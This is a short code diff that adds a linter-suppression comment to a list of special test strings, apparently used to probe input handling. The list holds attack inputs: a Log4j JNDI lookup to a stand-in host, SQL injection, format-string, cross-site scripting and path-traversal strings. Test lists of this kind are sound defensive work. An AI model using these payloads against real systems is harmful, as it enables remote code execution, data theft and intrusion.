@@ -84,6 +84,7 @@ const SPECIAL_TEXT = {
     '" OR "1"="1',
     "$1",
     "%s%s%n",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j probe, as attackers send it
     "${jndi:ldap://example.com/a}",
     "<script>alert(1)</script>",
     "../../etc/passwd",
